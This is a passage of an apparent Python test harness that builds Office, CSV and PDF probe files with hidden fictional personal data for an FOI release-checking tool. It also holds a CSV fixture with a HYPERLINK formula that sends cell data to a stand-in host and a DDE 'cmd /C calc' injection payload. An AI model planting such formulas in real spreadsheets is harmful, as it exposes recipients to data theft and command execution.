    }, {"word/footnotes.xml": notes})


def _chart_xml(cats: list[str], vals: list[int], ext_rid: str | None = None, sheet: str = "Sheet1") -> str:
    n = len(cats)
    strs = "".join(f'<c:pt idx="{i}"><c:v>{c}</c:v></c:pt>' for i, c in enumerate(cats))
    nums = "".join(f'<c:pt idx="{i}"><c:v>{v}</c:v></c:pt>' for i, v in enumerate(vals))
    ext = f'<c:externalData r:id="{ext_rid}"><c:autoUpdate val="0"/></c:externalData>' if ext_rid else ""
    return (f'{XML}<c:chartSpace xmlns:c="{CHART_NS}" xmlns:a="{A_NS}" xmlns:r="{OD_REL}"><c:chart><c:plotArea>'
            '<c:layout/><c:barChart><c:barDir val="col"/><c:grouping val="clustered"/><c:ser><c:idx val="0"/>'
            f'<c:order val="0"/><c:tx><c:strRef><c:f>{sheet}!$B$1</c:f><c:strCache><c:ptCount val="1"/>'
            '<c:pt idx="0"><c:v>Count</c:v></c:pt></c:strCache></c:strRef></c:tx>'
            f'<c:cat><c:strRef><c:f>{sheet}!$A$2:$A${n + 1}</c:f><c:strCache><c:ptCount val="{n}"/>{strs}'
            f'</c:strCache></c:strRef></c:cat><c:val><c:numRef><c:f>{sheet}!$B$2:$B${n + 1}</c:f><c:numCache>'
            f'<c:formatCode>General</c:formatCode><c:ptCount val="{n}"/>{nums}</c:numCache></c:numRef></c:val>'
            '</c:ser><c:axId val="1"/><c:axId val="2"/></c:barChart><c:catAx><c:axId val="1"/><c:scaling/>'
            '<c:axPos val="b"/><c:crossAx val="2"/></c:catAx><c:valAx><c:axId val="2"/><c:scaling/>'
            f'<c:axPos val="l"/><c:crossAx val="1"/></c:valAx></c:plotArea></c:chart>{ext}</c:chartSpace>')


def chart_alt_text_docx(d: Path) -> Path:
    """A chart of ASB reports by street whose alternative text (for screen readers) names the resident behind
    the highest bar."""
    p = _saved(_letter(), d, "chart_alt_text.docx")
    descr = ("Bar chart of ASB reports by street, 2024. The highest, Birch Close (7), are all from Mr Imran Khan "
             "at number 9.")
    drawing = ('<w:p><w:r><w:drawing><wp:inline distT="0" distB="0" distL="0" distR="0"><wp:extent cx="5486400" '
               f'cy="3200400"/><wp:docPr id="10" name="Chart 1" descr="{descr}"/><a:graphic xmlns:a="{A_NS}">'
               f'<a:graphicData uri="{CHART_NS}"><c:chart xmlns:c="{CHART_NS}" r:id="rIdCh1"/></a:graphicData>'
               "</a:graphic></wp:inline></w:drawing></w:r></w:p>")
    return _edit(p, {
        DOC: _para_after("The information is in the table below.", drawing),
        DOC_RELS: _before("</Relationships>", _rel("rIdCh1", f"{OD_REL}/chart", "charts/chart1.xml")),
        CT: _before("</Types>", _ct("/word/charts/chart1.xml",
                                    "application/vnd.openxmlformats-officedocument.drawingml.chart+xml")),
    }, {"word/charts/chart1.xml": _chart_xml(["Birch Close", "Oak Way", "Mill Lane"], [7, 2, 1])})


def style_redaction_docx(d: Path) -> Path:
    """'Redaction' by a character style the team made, 'Redact': black text on a black highlight. The caller's
    name and address are still in the text."""
    doc = _letter()
    par = doc.add_paragraph("The report was made by ")
    par.add_run("Mr Liam Doherty of 8 Ash Grove, AT2 4NN")
    par.add_run(", who reported the fly-tipping on 4 March.")
    p = _saved(doc, d, "style_redaction.docx")
    style = ('<w:style w:type="character" w:customStyle="1" w:styleId="Redact"><w:name w:val="Redact"/>'
             '<w:rPr><w:color w:val="000000"/><w:highlight w:val="black"/></w:rPr></w:style>')
    return _edit(p, {
        "word/styles.xml": _before("</w:styles>", style),
        DOC: lambda s: s.replace("<w:r><w:t>Mr Liam Doherty", '<w:r><w:rPr><w:rStyle w:val="Redact"/></w:rPr>'
                                 "<w:t>Mr Liam Doherty", 1),
    })


def comment_thread_people_docx(d: Path) -> Path:
    """A comment by one officer and a reply by another (both named as authors); the reply says why a name was
    withheld and names the person."""
    p = _saved(_letter(), d, "comment_thread_people.docx")
    w15 = "http://schemas.microsoft.com/office/word/2012/wordml"
    w14 = "http://schemas.microsoft.com/office/word/2010/wordml"
    comments = (
        f'{XML}<w:comments xmlns:w="{W}" xmlns:w14="{w14}">'
        '<w:comment w:id="0" w:author="Sarah Kemp" w:date="2025-03-10T10:00:00Z" w:initials="SK">'
        '<w:p w14:paraId="1A2B3C4D"><w:r><w:t>Do we withhold the caller here?</w:t></w:r></w:p></w:comment>'
        '<w:comment w:id="1" w:author="David Ames" w:date="2025-03-10T11:00:00Z" w:initials="DA">'
        '<w:p w14:paraId="5E6F7A8B"><w:r><w:t>Yes, s40 - the caller is his ex-partner Joanne Lyle, there is a '
        "non-molestation order</w:t></w:r></w:p></w:comment></w:comments>")
    ext = (f'{XML}<w15:commentsEx xmlns:w15="{w15}"><w15:commentEx w15:paraId="1A2B3C4D" w15:done="0"/>'
           '<w15:commentEx w15:paraId="5E6F7A8B" w15:paraIdParent="1A2B3C4D" w15:done="0"/></w15:commentsEx>')

    def body(s: str) -> str:
        i = s.index("The information is in the table below.")
        start = s.rfind("<w:r>", 0, i)
        end = s.index("</w:r>", i) + len("</w:r>")
        return (s[:start] + '<w:commentRangeStart w:id="0"/>' + s[start:end] + '<w:commentRangeEnd w:id="0"/>'
                '<w:r><w:commentReference w:id="0"/></w:r><w:r><w:commentReference w:id="1"/></w:r>' + s[end:])

    return _edit(p, {
        DOC: body,
        CT: _before("</Types>", _ct("/word/comments.xml", "application/vnd.openxmlformats-officedocument."
                                                          "wordprocessingml.comments+xml")
                    + _ct("/word/commentsExtended.xml", "application/vnd.openxmlformats-officedocument."
                                                        "wordprocessingml.commentsExtended+xml")),
        DOC_RELS: _before("</Relationships>", _rel("rIdCm1", f"{OD_REL}/comments", "comments.xml")
                          + _rel("rIdCm2", "http://schemas.microsoft.com/office/2011/relationships/commentsExtended",
                                 "commentsExtended.xml")),
    }, {"word/comments.xml": comments, "word/commentsExtended.xml": ext})


def mail_merge_source_docx(d: Path) -> Path:
    """A letter made by mail merge: settings keep the data source, a workbook of tenants in arrears in an
    officer's own Documents folder, and the query."""
    p = _saved(_letter(), d, "mail_merge_source.docx")
    src = "C:\\Users\\kpatel\\Documents\\Tenants in arrears 2025.xlsx"
    mm = ('<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType w:val="native"/>'
          '<w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;User ID=Admin;Data Source=' + src
          + ';Mode=Read"/><w:query w:val="SELECT * FROM `Arrears$` WHERE `Ward` = \'Castle\'"/>'
          '<w:dataSource r:id="rIdMM1"/></w:mailMerge>')

    def settings(s: str) -> str:
        if 'xmlns:r="' not in s[:2000]:
            s = s.replace("<w:settings ", f'<w:settings xmlns:r="{OD_REL}" ', 1)
        m = re.search(r"<w:settings[^>]*>", s)
        assert m
        return s[:m.end()] + mm + s[m.end():]

    return _edit(p, {"word/settings.xml": settings}, {
        "word/_rels/settings.xml.rels": _rels(_rel(
            "rIdMM1", f"{OD_REL}/mailMergeSource",
            "file:///C:\\Users\\kpatel\\Documents\\Tenants%20in%20arrears%202025.xlsx", external=True))})


# ---------------------------------------------------------------------------------------------------
# PowerPoint

PML_CT = "application/vnd.openxmlformats-officedocument.presentationml"
EMPTY_TREE = ('<p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>')


def _master(shapes: str) -> str:
    return (f'{XML}<p:sldMaster xmlns:a="{A_NS}" xmlns:r="{OD_REL}" xmlns:p="{P_NS}"><p:cSld><p:spTree>'
            f"{EMPTY_TREE}{shapes}</p:spTree></p:cSld>"
            '<p:clrMap bg1="lt1" tx1="dk1" bg2="lt2" tx2="dk2" accent1="accent1" accent2="accent2" '
            'accent3="accent3" accent4="accent4" accent5="accent5" accent6="accent6" hlink="hlink" '
            'folHlink="folHlink"/><p:sldLayoutIdLst><p:sldLayoutId id="2147483649" r:id="rIdL"/></p:sldLayoutIdLst>'
            "</p:sldMaster>")


def _deck() -> list[str]:
    return [_slide(_sp(1, "Sickness absence briefing - 2024/25") + _sp(2, "Days lost per FTE: 9.8", 2000000)),
            _slide(_sp(1, "Days lost by directorate"))]


def clean_master_footer_pptx(d: Path) -> Path:
    """A deck whose slide master carries the council's name and protective marking."""
    master = _master(_sp(20, "Anytown Council | OFFICIAL", 6300000))
    return _pptx(d / "clean_master_footer.pptx", _deck(), extra={"ppt/slideMasters/slideMaster1.xml": master})


def master_mobile_pptx(d: Path) -> Path:
    """The slide master (so every slide) gives a press officer's name and personal mobile."""
    master = _master(_sp(20, "Media enquiries: Jo Hart, mobile 07700 900317", 6300000))
    return _pptx(d / "master_mobile.pptx", _deck(), extra={"ppt/slideMasters/slideMaster1.xml": master})


def _chart_deck(d: Path, name: str, rows: list[tuple[str, int]], extra_rows: list[tuple] | None = None) -> Path:
    frame = ('<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="7" name="Chart 6"/><p:cNvGraphicFramePr/><p:nvPr/>'
             '</p:nvGraphicFramePr><p:xfrm><a:off x="500000" y="1500000"/><a:ext cx="7000000" cy="4500000"/>'
             f'</p:xfrm><a:graphic><a:graphicData uri="{CHART_NS}"><c:chart xmlns:c="{CHART_NS}" r:id="rIdC1"/>'
             "</a:graphicData></a:graphic></p:graphicFrame>")
    slides = _deck()
    slides[1] = slides[1].replace("</p:spTree>", frame + "</p:spTree>")
    wb = Workbook()
    ws = wb.active
    ws.title = "Sheet1"
    ws.append(["Directorate", "Count"])
    for r in rows:
        ws.append(list(r))
    for r in extra_rows or []:
        ws.append(list(r))
    extra = {
        "ppt/charts/chart1.xml": _chart_xml([r[0] for r in rows], [r[1] for r in rows], ext_rid="rId1"),
        "ppt/charts/_rels/chart1.xml.rels": _rels(_rel("rId1", f"{OD_REL}/package",
                                                       "../embeddings/Microsoft_Excel_Worksheet.xlsx")),
        "ppt/embeddings/Microsoft_Excel_Worksheet.xlsx": _xlsx_bytes(wb),
    }
    ct = (_ct("/ppt/charts/chart1.xml", "application/vnd.openxmlformats-officedocument.drawingml.chart+xml")
          + '<Default Extension="xlsx" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
          'sheet"/>')
    return _pptx(d / name, slides, {1: _rel("rIdC1", f"{OD_REL}/chart", "../charts/chart1.xml")}, extra, ct)


DIRECTORATES = [("Adults", 1204), ("Children's", 980), ("Place", 1530)]


def clean_chart_deck_pptx(d: Path) -> Path:
    """A chart of days lost by directorate; its embedded workbook holds exactly the three rows drawn."""
    return _chart_deck(d, "clean_chart_deck.pptx", DIRECTORATES)


def chart_workbook_extra_rows_pptx(d: Path) -> Path:
    """The same chart, but the workbook behind it keeps, below the plotted rows, the staff with most days lost."""
    extra = [("", None), ("Top absences (do not publish)", None)] + [(n, 40 + i * 9) for i, n in enumerate(STAFF)]
    return _chart_deck(d, "chart_workbook_extra_rows.pptx", DIRECTORATES, extra)


def hidden_slide_notes_pptx(d: Path) -> Path:
    """A hidden slide ('case study') whose speaker notes name the repeat victim and her address."""
    slides = _deck() + [_slide(_sp(1, "Case study: a repeat victim") + _sp(2, "Support offered within 24 hours",
                                                                            2000000))]
    slides[2] = slides[2].replace("<p:sld ", '<p:sld show="0" ', 1)
    notes = (f'{XML}<p:notes xmlns:a="{A_NS}" xmlns:r="{OD_REL}" xmlns:p="{P_NS}"><p:cSld><p:spTree>{EMPTY_TREE}'
             '<p:sp><p:nvSpPr><p:cNvPr id="3" name="Notes Placeholder 2"/><p:cNvSpPr><a:spLocks noGrp="1"/>'
             '</p:cNvSpPr><p:nvPr><p:ph type="body" idx="1"/></p:nvPr></p:nvSpPr><p:spPr/><p:txBody><a:bodyPr/>'
             '<a:lstStyle/><a:p><a:r><a:rPr lang="en-GB"/><a:t>Victim is Mrs Ada Lewis, 31 Rowan Court AT5 1PL - '
             "do not name in public</a:t></a:r></a:p></p:txBody></p:sp></p:spTree></p:cSld></p:notes>")
    extra = {"ppt/notesSlides/notesSlide1.xml": notes,
             "ppt/notesSlides/_rels/notesSlide1.xml.rels": _rels(_rel("rId1", f"{OD_REL}/slide",
                                                                      "../slides/slide3.xml"))}
    return _pptx(d / "hidden_slide_notes.pptx", slides,
                 {2: _rel("rIdN1", f"{OD_REL}/notesSlide", "../notesSlides/notesSlide1.xml")}, extra,
                 _ct("/ppt/notesSlides/notesSlide1.xml", f"{PML_CT}.notesSlide+xml"))


def cropped_name_pptx(d: Path) -> Path:
    """A screenshot of a case record cropped on the slide to hide the right half, where the witness is named."""
    png = _png(360, 40, "Case ASB-3107  outcome: warning     Witness: Tom Reilly 07700 900777")
    pic = ('<p:pic><p:nvPicPr><p:cNvPr id="9" name="Picture 8"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr>'
           '<p:blipFill><a:blip r:embed="rIdP1"/><a:srcRect r="50000"/><a:stretch><a:fillRect/></a:stretch>'
           '</p:blipFill><p:spPr><a:xfrm><a:off x="1000000" y="3000000"/><a:ext cx="3000000" cy="700000"/>'
           '</a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>')
    slides = _deck()
    slides[1] = slides[1].replace("</p:spTree>", pic + "</p:spTree>")
    return _pptx(d / "cropped_name.pptx", slides, {1: _rel("rIdP1", f"{OD_REL}/image", "../media/image1.png")},
                 {"ppt/media/image1.png": png})


def modern_comments_pptx(d: Path) -> Path:
    """A modern (threaded) PowerPoint comment on a slide: names a councillor's son as the one arrested."""
    p = _pptx(d / "modern_comments.pptx", _deck())
    p188 = "http://schemas.microsoft.com/office/powerpoint/2018/8/main"
    aid = "{7C1E2A44-3B21-4C55-9E01-1A2B3C4D5E6F}"
    cm = (f'{XML}<p188:cmLst xmlns:a="{A_NS}" xmlns:r="{OD_REL}" xmlns:p188="{p188}">'
          f'<p188:cm id="{{0B5E2C11-7A3D-4F00-8E77-9C1D2E3F4A5B}}" authorId="{aid}" created="2025-03-10T10:00:00.000">'
          '<pc:sldMkLst xmlns:pc="http://schemas.microsoft.com/office/powerpoint/2013/main/command"><pc:docMk/>'
          '<pc:sldMk cId="0" sldId="257"/></pc:sldMkLst><p188:txBody><a:bodyPr/><a:lstStyle/><a:p><a:r>'
          "<a:t>Leave out the Castle ward figure - the one arrested is Cllr Reid's son, Jamie Reid</a:t></a:r></a:p>"
          "</p188:txBody></p188:cm></p188:cmLst>")
    authors = (f'{XML}<p188:authorLst xmlns:a="{A_NS}" xmlns:r="{OD_REL}" xmlns:p188="{p188}">'
               f'<p188:author id="{aid}" name="Helen Drury" initials="HD" userId="helen.drury@anytown.gov.uk" '
               'providerId="AD"/></p188:authorLst>')
    ms = "http://schemas.microsoft.com/office/2018/10/relationships"
    cm_name = "ppt/comments/modernComment_101_5A1B2C3D.xml"
    return _edit(p, {
        CT: _before("</Types>", _ct(f"/{cm_name}", "application/vnd.ms-powerpoint.comments+xml")
                    + _ct("/ppt/authors.xml", "application/vnd.ms-powerpoint.authors+xml")),
        "ppt/_rels/presentation.xml.rels": _before("</Relationships>", _rel("rIdAu", f"{ms}/authors",
                                                                           "authors.xml")),
        "ppt/slides/_rels/slide2.xml.rels": _before("</Relationships>", _rel(
            "rIdCm", f"{ms}/comments", "../comments/modernComment_101_5A1B2C3D.xml")),
    }, {cm_name: cm, "ppt/authors.xml": authors})


# ---------------------------------------------------------------------------------------------------
# CSV


def _csv(d: Path, name: str, text: str, bom: bool = False) -> Path:
    (p := d / name).write_bytes((b"\xef\xbb\xbf" if bom else b"") + text.encode("utf-8"))
    return p


def _nhs(stem: str) -> str:
    total = sum(int(c) * (10 - i) for i, c in enumerate(stem))
    check = 11 - total % 11
    check = 0 if check == 11 else check
    assert check != 10
    return stem + str(check)


def clean_semicolon_bom_csv(d: Path) -> Path:
    """Excel's 'CSV UTF-8' with semicolons (a European-locale PC): ward statistics, all counts 5 or more."""
    rows = ["Ward;Noise;Fly-tipping;Total", "Abbey;12;40;52", "Castle;9;18;27", "St Mary's;15;7;22",
            "Total;36;65;101"]
    return _csv(d, "clean_semicolon_bom.csv", "\r\n".join(rows) + "\r\n", bom=True)


def clean_percentages_csv(d: Path) -> Path:
    """Satisfaction survey results as percentages (1.2, 3.4 ...) and an age band '1-4 years' as a label."""
    rows = ["Age band,Respondents,% very satisfied,% dissatisfied", "1-4 years (parent answered),210,41.2,3.4",
            "5-15 years (parent answered),388,38.9,2.1", "16-64,1512,35.5,4.0", "65+,640,44.8,1.2"]
    return _csv(d, "clean_percentages.csv", "\n".join(rows) + "\n")


def clean_service_numbers_csv(d: Path) -> Path:
    """An FOI asking for the council's published service phone numbers: 0300 and 0800 lines, a switchboard."""
    rows = ["Service,Phone,Hours", "Switchboard,0300 123 4567,Mon-Fri 9-5", "Council tax,0300 123 4570,Mon-Fri 9-5",
            "Out of hours emergencies,0800 587 1234,24 hours", "Bulky waste,0300 123 4599,Mon-Fri 8-6"]
    return _csv(d, "clean_service_numbers.csv", "\n".join(rows) + "\n")


def nhs_semicolon_bom_csv(d: Path) -> Path:
    """A delayed-discharge extract, BOM and semicolons, with a column 'NHS no' of valid NHS numbers."""
    stems = ["943476591", "401023213", "485777345", "999123456", "450557710"]
    rows = ["Patient ref;NHS no;Ward;Days delayed"] + [
        f"P{120 + i};{_nhs(s)};{['Elm', 'Oak', 'Ash'][i % 3]};{3 + i * 2}" for i, s in enumerate(stems)
        if _nhs_ok(s)]
    return _csv(d, "nhs_semicolon_bom.csv", "\r\n".join(rows) + "\r\n", bom=True)


def _nhs_ok(stem: str) -> bool:
    total = sum(int(c) * (10 - i) for i, c in enumerate(stem))
    return 11 - total % 11 != 10


def formula_injection_csv(d: Path) -> Path:
    """A portal export where a requester-typed field starts with '=' (a formula Excel would run on opening)."""
    rows = ["Ref,Received,Summary",
            "FOI-2025-1401,02/04/2025,Spend on consultants",
            'FOI-2025-1402,03/04/2025,"=HYPERLINK(""http://x.example/?d=""&A2,""Click for detail"")"',
            "FOI-2025-1403,03/04/2025,Number of potholes",
            "FOI-2025-1404,04/04/2025,@SUM(1+1)*cmd|' /C calc'!A0"]
    return _csv(d, "formula_injection.csv", "\n".join(rows) + "\n")


def notes_email_multiline_csv(d: Path) -> Path:
    """A complaints export with quoted multi-line notes; one note carries the complainant's email."""
    rows = ["Ref,Received,Notes",
            'CMP-801,03/02/2025,"Acknowledged.\nPassed to service."',
            'CMP-802,04/02/2025,"Stage 1 closed.\nComplainant asked for reply to d.marsh1970@btinternet.com\nDone."',
            'CMP-803,05/02/2025,"Apology issued."']
    return _csv(d, "notes_email_multiline.csv", "\r\n".join(rows) + "\r\n", bom=True)


def suppressed_total_csv(d: Path) -> Path:
    """Exclusions by school and reason with one cell suppressed as '[c]' (a count of 2) but the row total kept:
    39 - 12 - 25 gives it back."""
    rows = ["School,Physical assault,Verbal abuse,Persistent disruption,Total",
            "Abbey Primary,[c],12,25,39", "Castle Academy,14,9,31,54", "Riverside High,22,17,40,79"]
    return _csv(d, "suppressed_total.csv", "\n".join(rows) + "\n")


# ---------------------------------------------------------------------------------------------------
# OpenDocument and PDF


def _ods_tables(tables: list[tuple[str, list[list], bool]]) -> str:
    def cell(v) -> str:
        if isinstance(v, (int, float)):
            return (f'<table:table-cell office:value-type="float" office:value="{v}"><text:p>{v}</text:p>'
                    "</table:table-cell>")
        return f'<table:table-cell office:value-type="string"><text:p>{v}</text:p></table:table-cell>'

    body = ""
    for name, rows, hidden in tables:
        style = ' table:style-name="taHidden"' if hidden else ' table:style-name="ta1"'
        body += (f'<table:table table:name="{name}"{style}><table:table-column table:number-columns-repeated='
                 f'"{max(len(r) for r in rows)}"/>'
                 + "".join("<table:table-row>" + "".join(cell(v) for v in r) + "</table:table-row>" for r in rows)
                 + "</table:table>")
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content {OFFICE}><office:automatic-styles>'
            '<style:style style:name="ta1" style:family="table"><style:table-properties table:display="true"/>'
            '</style:style><style:style style:name="taHidden" style:family="table"><style:table-properties '
            'table:display="false"/></style:style></office:automatic-styles><office:body><office:spreadsheet>'
            f"{body}</office:spreadsheet></office:body></office:document-content>")


BUDGET = [["Service", "2024/25 budget (£k)"], ["Libraries", 1795], ["Parks", 2305], ["Total", 4100]]


def clean_two_sheets_ods(d: Path) -> Path:
    """A LibreOffice workbook with two visible sheets: budget and notes on method."""
    content = _ods_tables([("Budget", BUDGET, False),
                           ("Notes", [["Figures are revenue budgets at 1 April 2024."]], False)])
    return _odf(d / "clean_two_sheets.ods", "application/vnd.oasis.opendocument.spreadsheet", content)


def hidden_sheet_ods(d: Path) -> Path:
    """A LibreOffice workbook whose second sheet, hidden, lists the library members who owe fines."""
    members = [["Member", "Address", "Owed (£)"]] + [[n, f"{4 + i} Pine Rd AT1 2X{'ABCDEF'[i]}", 12 + i]
                                                     for i, n in enumerate(STAFF)]
    content = _ods_tables([("Budget", BUDGET, False), ("Fines", members, True)])
    return _odf(d / "hidden_sheet.ods", "application/vnd.oasis.opendocument.spreadsheet", content)


def _print_pdf(lines: list[str], titles: list[str]) -> bytes:
    objs = _text_page_objs(lines)
    n = len(objs)  # outline root is n+1, items follow
    root = n + 1
    objs[0] = f"<< /Type /Catalog /Pages 2 0 R /Outlines {root} 0 R /PageMode /UseOutlines >>".encode()
    objs.append(f"<< /Type /Outlines /First {root + 1} 0 R /Last {root + len(titles)} 0 R /Count {len(titles)} >>"
                .encode())
    for i, t in enumerate(titles):
        me = root + 1 + i
        links = (f"/Prev {me - 1} 0 R " if i else "") + (f"/Next {me + 1} 0 R " if i < len(titles) - 1 else "")
        objs.append(f"<< /Title ({t}) /Parent {root} 0 R {links}/Dest [3 0 R /XYZ 0 792 0] >>".encode("latin-1"))
    objs.append(b"<< /Producer (Microsoft: Print To PDF) /Title (Bundle) >>")
    return _pdf(objs, info=len(objs))


def clean_print_to_pdf_pdf(d: Path) -> Path:
    """'Microsoft Print to PDF' of a response with bookmarks that are section titles only."""
    (p := d / "clean_print_to_pdf.pdf").write_bytes(_print_pdf(LETTER_LINES, ["Response", "Annex A - figures"]))
    return p


def outline_names_pdf(d: Path) -> Path:
    """A printed bundle of statements whose page text is redacted, but whose bookmarks name each witness."""
    lines = ["Witness statements - ASB case 3107", "Statement 1: [redacted]", "Statement 2: [redacted]"]
    titles = ["Statement - Karen Whitlock", "Interview - Mr Darren Cole, 12 Oak Way"]
    (p := d / "outline_names.pdf").write_bytes(_print_pdf(lines, titles))
    return p


def unplaced_form_field_pdf(d: Path) -> Path:
    """An online form saved as PDF: a 'CaseNotes' field has a value but no widget on any page."""
    objs = _text_page_objs(["Pest control requests 2024/25 - summary", "Requests received: 1,311"])
    objs[0] = b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [6 0 R] >> >>"
    objs.append(b"<< /FT /Tx /T (CaseNotes) /V (Caller Rhys Hughes, r.hughes84@outlook.com, rats in loft) >>")
    objs.append(_info())
    (p := d / "unplaced_form_field.pdf").write_bytes(_pdf(objs, info=7))
    return p


def attachment_annotation_pdf(d: Path) -> Path:
    """A paperclip (FileAttachment annotation) on the page carrying the source spreadsheet as CSV."""
    csv = b"Name,DOB,Address\nLuke Farrow,12/07/1988,3 Pine Rd AT1 2XY\nAmy Shaw,02/02/1979,9 Elm Rd AT2 5QP\n"
    objs = _text_page_objs(LETTER_LINES, annots="/Annots [6 0 R] ")
    objs.append(b"<< /Type /Annot /Subtype /FileAttachment /Rect [540 740 560 760] /FS 7 0 R /Name /PushPin "
                b"/Contents (source data) >>")
    objs.append(b"<< /Type /Filespec /F (data.csv) /UF (data.csv) /EF << /F 8 0 R >> >>")
    objs.append(_stream(csv, "/Type /EmbeddedFile "))
    objs.append(_info())
    (p := d / "attachment_annotation.pdf").write_bytes(_pdf(objs, info=9))
    return p


# ---------------------------------------------------------------------------------------------------
# the probe: file, expected colour (written before the checker's code was read), what an officer expects to hear,
# and a pattern a finding about the hidden thing itself must match (id or message)

NOT_GREEN = "uninspect|cannot|encrypt|password|bomb|too large|limit|malformed|corrupt|not a|type|empty|entit|unsafe"

BUILDERS = [
    # clean (false-alarm probes)
    (clean_print_titles_xlsx, "green", "nothing: frozen panes, filter, print titles (Excel's own names)", None),
    (clean_protected_sheet_xlsx, "green", "nothing: a protected sheet hides nothing", None),
    (clean_grouped_expanded_xlsx, "green", "nothing: grouped rows left expanded", None),
    (clean_rsid_docx, "green", "nothing: rsids are not tracked changes", None),
    (clean_content_control_docx, "green", "nothing: Word's placeholder text", None),
    (clean_title_page_docx, "green", "nothing: plain first-page header", None),
    (clean_master_footer_pptx, "green", "nothing: council name on the master", None),
    (clean_chart_deck_pptx, "green", "nothing: chart workbook holds just what is drawn", None),
    (clean_semicolon_bom_csv, "green", "nothing: BOM and semicolons, counts 5+", None),
    (clean_percentages_csv, "green", "nothing: percentages and an age band are not small counts", None),
    (clean_service_numbers_csv, "green", "nothing: published 0300/0800 service numbers", None),
    (clean_two_sheets_ods, "green", "nothing: two visible sheets", None),
    (clean_print_to_pdf_pdf, "green", "nothing: bookmarks are section titles", None),
    # spreadsheets
    (power_query_connection_xlsx, "amber", "connection names server, login, query of tenants, personal folder",
     r"connection|AC-SQL02|kpatel|query"),
    (external_link_cached_xlsx, "red", "external link keeps cached staff names from the HR workbook",
     r"external|link"),
    (pivot_records_only_xlsx, "red", "pivot cache records hold names, addresses, DOBs", r"pivot"),
    (very_hidden_officers_xlsx, "red", "very hidden sheet of officers", r"very_hidden|very hidden"),
    (hidden_name_contact_xlsx, "red", "hidden defined name holds a witness's name and mobile",
     r"defined_name|hidden name|_Contact"),
    (threaded_comment_xlsx, "red", "threaded comment reply names a resident and address", r"comment"),
    (chart_hidden_sheet_xlsx, "red", "chart drawn from a hidden sheet of officers' names", r"hidden_sheet|chart"),
    (white_rule_xlsx, "red", "conditional formatting makes names white on white", r"conditional|white|format"),
    (semicolons_format_xlsx, "red", "';;;' format hides names and phones", r";;;|format|hidden"),
    (validation_hidden_range_xlsx, "red", "drop-down fed from hidden columns of names and mobiles",
     r"hidden_col|validation|drop"),
    (table_hidden_column_xlsx, "red", "table column hidden holds names and phones", r"hidden_col"),
    (grouped_collapsed_columns_xlsx, "red", "collapsed column group holds names and phones", r"hidden_col"),
    # Word
    (first_page_header_mobile_docx, "amber", "first-page header has the officer's mobile", r"phone"),
    (field_code_path_docx, "amber", "field code names a legal file on an internal share",
     r"field|ac-fs01|share|include"),
    (linked_image_share_docx, "amber", "linked picture points at the ASB share, file named after a resident",
     r"link|share|ac-fs01|external"),
    (embedded_xlsx_ole_docx, "red", "embedded workbook of names, DOBs, addresses", r"embed|object|ole"),
    (footnote_docx, "amber", "footnote names a resident with address", r"postcode|address|footnote|Pryor"),
    (chart_alt_text_docx, "amber", "chart alt text names a resident", r"alt|descr|Khan"),
    (style_redaction_docx, "red", "black-on-black by a character style: failed redaction",
     r"highlight|redact|black|shad"),
    (comment_thread_people_docx, "red", "comment reply names a DV victim", r"comment"),
    (mail_merge_source_docx, "amber", "mail merge source: tenants-in-arrears workbook in an officer's folder",
     r"mail|merge|kpatel|data source"),
    # PowerPoint
    (master_mobile_pptx, "amber", "slide master has a press officer's mobile", r"phone"),
    (chart_workbook_extra_rows_pptx, "red", "chart's workbook keeps staff names below the plotted rows",
     r"chart|embed|workbook|Pryce"),
    (hidden_slide_notes_pptx, "red", "hidden slide's notes name a victim", r"hidden_slide|notes"),
    (cropped_name_pptx, "amber", "cropped picture keeps the witness's name", r"crop"),
    (modern_comments_pptx, "red", "modern comment names a councillor's son as arrested", r"comment"),
    # CSV
    (nhs_semicolon_bom_csv, "amber", "NHS numbers (BOM, semicolons)", r"nhs"),
    (formula_injection_csv, "amber", "formula injection in a cell", r"formula|injection"),
    (notes_email_multiline_csv, "amber", "email in a multi-line note", r"email"),
    (suppressed_total_csv, "amber", "suppressed cell recoverable from the row total", r"suppress"),
    # OpenDocument and PDF
    (hidden_sheet_ods, "red", "hidden sheet of members' names and addresses", r"hidden"),
    (outline_names_pdf, "red", "bookmarks name the witnesses whose page text is redacted", r"outline|bookmark"),
    (unplaced_form_field_pdf, "red", "form field value with no widget: caller's name and email", r"form|field"),
    (attachment_annotation_pdf, "red", "file attachment annotation carries source data", r"attach|embedded"),
    # hostile: a clear message, never a traceback, never green
    (zip_bomb_xlsx, "amber", "zip bomb: refused, not green", NOT_GREEN),
    (encrypted_xlsx, "amber", "password-protected: cannot inspect, not green", NOT_GREEN),
    (lying_extension_pdf, "amber", "a .docx named .pdf: not green", NOT_GREEN + "|comment"),
    (empty_docx, "amber", "0-byte file: not green", NOT_GREEN),
    (billion_laughs_docx, "amber", "XML entity expansion: refused, not green", NOT_GREEN),
]


def build_all(d: Path) -> list[tuple[Path, str, str, str | None]]:
    d.mkdir(parents=True, exist_ok=True)
    return [(b(d), exp, why, want) for b, exp, why, want in BUILDERS]


def run_check(paths: list[Path]) -> dict:
    exe = ROOT / ".venv" / "bin" / "foibot"
    out = subprocess.run([str(exe), "release-check", *map(str, paths), "--json"], capture_output=True, text=True,
                         cwd=ROOT)
    if "Traceback" in out.stderr:
        print(out.stderr, file=sys.stderr)
    return json.loads(out.stdout)


RANK = {"green": 0, "info": 0, "amber": 1, "red": 2}


def classify(expected: str, report: dict, want: str | None) -> str:
    """ok-clean / FALSE ALARM for clean files; caught / weak / MISSED for leaks.

    A leak is caught only when a finding about the hidden thing itself (id or message matching `want`) is at
    least as severe as expected; noise (properties, pictures) does not count. A file called green is MISSED.
    """
    got = report["overall"]
    if expected == "green":
        return "ok-clean" if got == "green" else "FALSE ALARM"
    if got == "green":
        return "MISSED"
    hits = [f for f in report["findings"] if re.search(want or "", f["id"] + " " + f["message"], re.I)]
    if not hits:
        return "MISSED"
    best = max(RANK.get(f["severity"], 0) for f in hits)
    if best >= RANK[expected]:
        return "caught"
